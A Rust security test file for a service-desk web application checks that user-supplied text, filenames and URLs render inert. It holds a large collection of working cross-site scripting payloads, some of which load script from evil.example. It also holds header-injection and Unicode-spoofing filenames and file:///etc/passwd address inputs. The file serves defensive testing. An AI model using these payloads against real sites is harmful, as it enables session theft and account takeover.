//! SEC-044, 049 to 051, 055: text of people is text on every page, and files are saved, never shown.

use serde_json::json;
use steward_testkit::client::Answer;
use steward_testkit::markup::Page;
use steward_testkit::on_both;

use crate::world::{World, location};

const ELEMENTS: [&str; 16] = [
    "script", "img", "svg", "iframe", "object", "embed", "math", "style", "body", "video", "audio", "input", "details",
    "marquee", "form", "base",
];
const HANDLERS: [&str; 8] = [
    "onerror=alert(1)",
    "onload=alert(1)",
    "onclick='alert(1)'",
    "ONFOCUS=alert(1) autofocus",
    "onbegin=alert(1)",
    "style=x:expression(alert(1))",
    "href=javascript:alert(1)",
    "srcdoc='<script>alert(1)</script>'",
];
const SINGLE: [&str; 56] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"x`<script>alert(1)</script>\"` `>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](x \"onerror=alert(1)\")",
    "[x](<javascript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "- [x] <img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{2028}<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "<link rel=stylesheet href=//evil.example/x.css>",
];

/// Every payload.
fn payloads() -> Vec<String> {
    let crossed = ELEMENTS.iter().flat_map(|element| {
        let tag = move |handler: &str| [format!("<{element} {handler}>"), format!("\"/><{element}/{handler} x=\"")];
        HANDLERS.iter().flat_map(move |handler| tag(handler))
    });
    SINGLE.iter().map(|text| (*text).to_owned()).chain(crossed).collect()
}

/// Nothing of a page runs but our own script, and nothing loads from elsewhere.
#[track_caller]
fn check_inert(what: &str, answer: &Answer) {
    assert!(answer.status.as_u16() < 500, "{what}: {}", answer.text());
    if !answer.header("content-type").starts_with("text/html") {
        return;
    }
    for element in Page::parse(&answer.text()).elements() {
        let is_own = |address: &str| address.starts_with("/assets/") || address == "/manifest.webmanifest";
        let own = |name: &str| element.get(name).is_some_and(is_own);
        match element.name.as_str() {
            "script" | "link" | "img" => assert!(own("src") || own("href"), "{what}: {element:?}"),
            "iframe" | "object" | "embed" | "style" | "math" | "base" | "video" | "audio" | "marquee" | "animate"
            | "set" | "frame" | "xmp" | "plaintext" => panic!("{what}: {element:?}"),
            "meta" => assert!(element.get("http-equiv").is_none(), "{what}: {element:?}"),
            _ => {}
        }
        for (name, value) in &element.attributes {
            assert!(
                !name.starts_with("on") && name != "style" && name != "srcdoc" && name != "hx-vals" && name != "hx-on",
                "{what}: {element:?}"
            );
            let scheme: String =
                value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            if ["href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "data-source"]
                .contains(&name.as_str())
            {
                for bad in ["javascript:", "data:", "vbscript:", "//"] {
                    assert!(!scheme.starts_with(bad), "{what}: {element:?}");
                }
            }
        }
    }
}

on_both! {
    async fn sec_044_no_text_of_people_is_markup(db: TestDatabase) {
        let world = World::build(db).await;
        let server = &world.fixture.server;
        let g1 = world.browser("g1");
        let payloads = payloads();
        assert!(payloads.len() >= 200, "{}", payloads.len());
        // Several payloads a record, each in a field of its own.
        for chunk in payloads.chunks(4) {
            let part = |index: usize| chunk[index % chunk.len()].as_str();
            // A title is one line.
            let cut: String = part(0).chars().filter(|c| !c.is_control()).take(150).collect();
            let values = [("title", cut.as_str()), ("description", part(1)), ("handling_notes", part(2)), ("contact_note", part(3))];
            let made = g1.post("/incidents", &values).await;
            check_inert(&format!("creating {chunk:?}"), &made);
            assert_eq!(made.status.as_u16(), 303, "{chunk:?} {}", made.text());
            let path = location(&made).to_owned();
            g1.post(&format!("{path}/comments"), &[("body", part(3))]).await.expect(303);
            g1.post(&format!("{path}/comments"), &[("body", &chunk.join("\n\n")), ("audience", "internal")]).await.expect(303);
            g1.post(&format!("{path}/worklogs"), &[("duration", "5 min"), ("note", part(0))]).await.expect(303);
            g1.post_files(&format!("{path}/attachments"), &[], &[("files", &format!("{}.txt", part(2)), b"x")]).await;
            g1.post(&format!("{path}/fields/title"), &[("title", &format!("{cut} again"))]).await.expect(303);
            for rest in ["", "/edit", "/fields/description", "/transitions/resolve", "?part=timeline", "?part=header"] {
                let page = g1.get(&format!("{path}{rest}")).await.expect(200);
                check_inert(&format!("{path}{rest} with {chunk:?}"), &page);
            }
            // What comes back because it was refused is text as well.
            let refused = g1.post(&format!("{path}/worklogs"), &[("duration", part(1)), ("note", part(2))]).await.expect(422);
            check_inert(&format!("refusing {chunk:?}"), &refused);
            let refused = g1.post(&format!("{path}/edit"), &[("title", ""), ("description", part(1)), ("impact", part(0)), ("assignee", part(3))]).await.expect(422);
            check_inert(&format!("refusing {chunk:?}"), &refused);
        }
        for text in payloads.iter().step_by(7) {
            let encoded = steward_testkit::client::encoded(text);
            for path in ["/search?q=@", "/incidents?q=@", "/incidents?sort=@", "/incidents?view=@&cursor=@", "/incidents/@", "/incidents/new?title=@&description=@", "/@", "/sign-in?next=@"] {
                check_inert(&format!("{path} {text}"), &g1.get(&path.replace('@', &encoded)).await);
                check_inert(&format!("{path} {text}"), &world.browser("anon").get(&path.replace('@', &encoded)).await);
            }
        }
        // Names of people, organisations, teams and items stand on many pages.
        let name = "\"><img src=x onerror=alert(1)><script>alert(1)</script>";
        let organisation = server.make("organisation", steward_model::id::RecordId::SYSTEM, json!({"name": name, "parent": world.fixture.provider.to_string()})).await.record.id;
        let person = server.person("xss", (name, name), organisation, &[("requester", None)]).await;
        let agent = server.person("xssagent", (name, name), world.fixture.provider, &[("agent", Some(world.fixture.provider))]).await;
        let team = server.make("team", world.fixture.provider, json!({"name": name, "members": [agent.to_string()]})).await;
        let item = server.make("configuration_item", organisation, json!({"name": name, "description": name, "class": "software_package"})).await;
        let ticket = server.make("incident", organisation, json!({"title": name, "requester": person.to_string(), "team": team.record.id.to_string(), "assignee": agent.to_string(), "configuration_items": [item.record.id.to_string()]})).await;
        server.searchable().await;
        let path = format!("/incidents/{}", ticket.record.number);
        let agent = server.browser_of(agent).await;
        let long = agent.post(&format!("{path}/comments"), &[("body", &name.repeat(2000))]).await.expect(422);
        check_inert("a comment that is too long", &long);
        for browser in [&agent, &server.browser_of(person).await, world.browser("root")] {
            for path in [path.as_str(), "/", "/incidents?view=all", "/people", "/organisations", "/teams", "/configuration-items", "/search?q=img", "/account", "/incidents/new", &format!("{path}/edit"), &format!("{path}/access"), "/search/suggestions?q=img", "/pick?q=%22"] {
                check_inert(path, &browser.get(path).await);
            }
        }
    }

    async fn sec_049_050_and_051_files_are_saved_and_never_shown(db: TestDatabase) {
        let world = World::build(db).await;
        let (a1, ta) = (world.browser("a1"), world.ta());
        let html = b"<script>alert(1)</script>";
        let png = b"\x89PNG\r\n\x1a\n<script>alert(1)</script>";
        let long = "n".repeat(300) + ".txt";
        let files: [(&str, &[u8]); 14] = [
            ("x.html", html), ("x.svg", b"<svg onload=alert(1)>"), ("x.xml", b"<?xml version='1.0'?><x/>"), ("x.xhtml", html), ("x.js", b"alert(1)"), ("x.pdf", b"%PDF-1.4 <script>"), ("x.png", html), ("polyglot.png", png),
            ("quote\".txt", b"x"), ("line\r\nset-cookie: a=b.txt", b"x"), ("\u{202e}gpj.nib", b"x"), ("zero\u{200b}width.txt", b"x"), (&long, b"x"), ("..hidden", b"x"),
        ];
        for (name, content) in files {
            let answer = a1.post_files(&format!("{ta}/attachments"), &[], &[("files", name, content)]).await;
            assert_eq!(answer.status.as_u16(), 303, "{name:?}: {}", answer.text());
        }
        let actor = world.fixture.server.actor(world.fixture.people["a1"]).await;
        let stored = world.fixture.server.app.files(&actor, &world.fixture.ta.kind, &world.fixture.ta.record.number).await.unwrap();
        let stored: Vec<_> = stored.into_iter().skip(1).collect();
        assert_eq!(stored.len(), files.len());
        for (file, (name, content)) in stored.iter().zip(files) {
            let answer = a1.get(&format!("{ta}/attachments/{}", file.seq)).await.expect(200);
            assert_eq!(answer.body.as_ref(), content, "{name:?}");
            let disposition = answer.header("content-disposition");
            assert!(disposition.starts_with("attachment; filename*=UTF-8''") && disposition.is_ascii(), "{name:?}: {disposition}");
            assert!(!disposition.contains(['"', '\r', '\n']), "{name:?}: {disposition}");
            assert_eq!(answer.header("x-content-type-options"), "nosniff");
            assert_eq!(answer.header("content-security-policy"), "default-src 'none'; sandbox");
            let media_type = answer.header("content-type");
            assert!(["application/octet-stream", "image/png", "application/pdf"].contains(&media_type), "{name:?}: {media_type}");
            assert_eq!(answer.header("set-cookie"), "", "{name:?}");
            let shown = &file.attachment.name;
            assert!(shown.chars().count() <= 200 && !shown.starts_with('.') && !shown.contains(['\u{202e}', '\u{200b}', '\r', '\n']), "{shown:?}");
        }
        check_inert("the ticket", &a1.get(&ta).await);
        // Names are looked at after they were put right.
        let refused = a1.post_files(&format!("{ta}/attachments"), &[], &[("files", "photo.\u{202e}gpj\u{200b}.exe", b"x")]).await.expect(422);
        assert!(refused.text().contains("ends in .exe"), "{}", refused.text());
    }

    async fn sec_055_addresses_in_fields_lead_to_the_web_only(db: TestDatabase) {
        let world = World::build(db).await;
        let item = world.fixture.server.make("configuration_item", world.fixture.a, json!({"name": "site", "class": "web_application"})).await;
        let path = format!("/configuration-items/{}", item.record.number);
        let g1 = world.browser("root");
        let field = format!("{path}/fields/application_address");
        for bad in ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "https://user:secret@evil.example", " javascript:alert(1)", "java\nscript:alert(1)", "file:///etc/passwd", "ftp://x.example"] {
            let answer = g1.post(&field, &[("application_address", bad)]).await;
            assert_eq!(answer.status.as_u16(), 422, "{bad:?}: {}", answer.text());
            check_inert(bad, &answer);
        }
        g1.post(&field, &[("application_address", "https://app.example/x?a=b")]).await.expect(303);
        let page = g1.page(&path).await;
        let link = page.elements().find(|element| element.get("href") == Some("https://app.example/x?a=b")).expect("the link is shown");
        let rel = link.get("rel").unwrap_or_default();
        assert!(rel.contains("noopener") && rel.contains("noreferrer"), "{link:?}");
    }
}
